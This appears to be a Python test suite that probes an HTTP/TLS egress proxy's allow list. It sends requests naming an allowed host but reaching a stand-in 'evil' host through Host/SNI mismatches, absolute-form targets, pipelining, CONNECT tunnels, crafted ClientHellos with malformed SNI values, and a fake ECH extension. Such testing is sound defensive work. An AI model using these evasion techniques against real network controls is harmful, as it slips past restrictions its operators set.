"""Under an allow list with api.test.example: other hosts behind its name, and its name before other hosts."""

import os
import socket
import ssl
import struct
import time

from attack import Answers, attempt, get, https, plain, raw, report, say, tcp, tls

API, EVIL = "api.test.example", "evil.test.example"


def mark(name, host=API, target=None, **more):
    return get(host, target or f"/{name}", headers=[("X-Attempt", name), *more.pop("headers", ())], **more)


@attempt
def honest():
    return https(API, mark("honest"))


@attempt
def other_host():
    return https(API, mark("other_host", EVIL))


@attempt
def other_sni():
    return https(API, mark("other_sni"), sni=EVIL)


@attempt
def both_other():
    return https(API, mark("both_other", EVIL), sni=EVIL)


@attempt
def denied_address_allowed_names():
    return https(EVIL, mark("denied_address_allowed_names"), sni=API)


@attempt
def denied_address_no_sni():
    return https(EVIL, mark("denied_address_no_sni"), sni=None)


@attempt
def no_sni_other_host():
    return https(API, mark("no_sni_other_host", EVIL), sni=None)


@attempt
def literal_address_allowed_names():
    with tls(API, sock=tcp("203.0.113.7", 443), sni=API) as sock:
        return say(sock, mark("literal_address_allowed_names"))


@attempt
def absolute_form():
    return https(API, mark("absolute_form", target=f"https://{EVIL}/absolute_form"))


@attempt
def absolute_form_plain():
    return plain(API, mark("absolute_form_plain", target=f"http://{EVIL}/absolute_form_plain"))


@attempt
def absolute_form_with_user():
    return https(API, mark("absolute_form_with_user", target=f"https://{API}@{EVIL}/x"))


@attempt
def two_hosts():
    return https(API, mark("two_hosts", headers=[("Host", EVIL)]))


@attempt
def two_hosts_reverse():
    return https(API, mark("two_hosts_reverse", EVIL, headers=[("Host", API)]))


@attempt
def two_hosts_the_same_case():
    return https(API, mark("two_hosts_the_same_case", headers=[("hOsT", EVIL)]))


@attempt
def host_with_a_space_before_the_colon():
    return https(API, mark("space_before_colon", headers=[("Host ", EVIL)]))


@attempt
def two_hosts_in_one_header():
    return https(API, mark("two_hosts_in_one", f"{API}, {EVIL}"))


@attempt
def no_host():
    return https(API, mark("no_host", None))


@attempt
def empty_host():
    return https(API, mark("empty_host", ""))


@attempt
def http10_without_host():
    return https(API, mark("http10_without_host", None, version="HTTP/1.0"))


@attempt
def plain_other_host():
    return plain(API, mark("plain_other_host", EVIL))


@attempt
def plain_denied_address():
    return plain(EVIL, mark("plain_denied_address"))


@attempt
def other_host_when_kept_alive():
    with tls(API) as sock:
        answers = Answers(sock)
        sock.sendall(mark("kept_alive_first"))
        first = answers.next()
        sock.sendall(mark("kept_alive_second", EVIL))
        return {"first": first["status"], **answers.next()}


@attempt
def other_host_when_pipelined():
    with tls(API) as sock:
        answers = Answers(sock)
        sock.sendall(mark("pipelined_first") + mark("pipelined_second", EVIL))
        return {"first": answers.next()["status"], **answers.next()}


def through_connect(port, wrap, target, sni, host, name):
    sock = tls(API, port) if wrap else tcp(API, port)
    with sock:
        answer = say(sock, f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n", "CONNECT")
        if answer["status"] != 200 or wrap:
            return answer
        with tls(API, sock=sock, sni=sni) as inner:
            return say(inner, mark(name, host))


@attempt
def connect_to_denied():
    return through_connect(80, False, f"{EVIL}:443", EVIL, EVIL, "connect_to_denied")


@attempt
def connect_to_denied_with_allowed_names():
    return through_connect(80, False, f"{EVIL}:443", API, API, "connect_denied_allowed_names")


@attempt
def connect_to_allowed_with_denied_sni():
    return through_connect(80, False, f"{API}:443", EVIL, API, "connect_allowed_denied_sni")


@attempt
def connect_to_allowed_with_denied_host():
    return through_connect(80, False, f"{API}:443", API, EVIL, "connect_allowed_denied_host")


@attempt
def connect_within_tls():
    return through_connect(443, True, f"{EVIL}:443", EVIL, EVIL, "connect_within_tls")


def hello(sni):
    """A ClientHello that asks for any bytes as its name."""
    known = b"known.test.example"
    context = ssl.create_default_context()
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(into, out, server_hostname=known.decode()).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return rebuild(out.read(), known, sni)


def rebuild(record, known, sni, extra=b""):
    """With another name, and extensions added."""
    body = bytearray(record[9:])
    at = 34 + 1 + body[34]
    at += 2 + int.from_bytes(body[at : at + 2], "big")
    at += 1 + body[at]
    extensions, end, rest = b"", len(body), at + 2
    while rest < end:
        kind, length = struct.unpack(">HH", body[rest : rest + 4])
        data = bytes(body[rest + 4 : rest + 4 + length])
        if kind == 0:
            data = struct.pack(">HBH", len(sni) + 3, 0, len(sni)) + sni
        extensions += struct.pack(">HH", kind, len(data)) + data
        rest += 4 + length
    extensions += extra
    inner = bytes(body[:at]) + struct.pack(">H", len(extensions)) + extensions
    message = b"\x01" + len(inner).to_bytes(3, "big") + inner
    return b"\x16\x03\x01" + struct.pack(">H", len(message)) + message


def greet(connect, data):
    with tcp(connect, 443) as sock:
        answer = raw(sock, data, quiet=2)
        first = answer["received"][:1]
        return {
            "handshake": first == "\x16",
            "alert": first == "\x15",
            "ended": answer["ended"],
            "text": answer["received"][:200],
        }


ODD_NAMES = {
    "address": b"203.0.113.7",
    "loopback": b"127.0.0.1",
    "v6": b"::1",
    "nul": b"api.test.example\0.evil.test.example",
    "nul_reverse": b"evil.test.example\0.api.test.example",
    "space": b"api.test.example evil.test.example",
    "empty": b"",
    "long": b"a" * 300,
    "slash": b"evil.test.example/api.test.example",
    "latin": b"\xe4pi.test.example",
    "user": b"api.test.example@evil.test.example",
}
for label, odd in ODD_NAMES.items():

    def odd_sni(odd=odd):
        return greet(API, hello(odd))

    odd_sni.__name__ = f"odd_sni_{label}"
    attempt(odd_sni)


@attempt
def hello_with_ech():
    """Encrypted Client Hello (extension 0xfe0d) under an allowed outer name: what is inside cannot be read by the proxy."""
    ech = b"\x00" + struct.pack(">HHBH", 1, 1, 7, 32) + os.urandom(32) + struct.pack(">H", 144) + os.urandom(144)
    known = b"known.test.example"
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        ssl.create_default_context().wrap_bio(into, out, server_hostname=known.decode()).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return greet(API, rebuild(out.read(), known, API.encode(), struct.pack(">HH", 0xFE0D, len(ech)) + ech))


@attempt
def two_hellos_in_pieces():
    data = hello(EVIL.encode())
    with tcp(API, 443) as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for index in range(0, len(data), 40):
            sock.sendall(data[index : index + 40])
            time.sleep(0.002)
        return {"ended": raw(sock, b"", quiet=2)["ended"]}


report(threads=8)
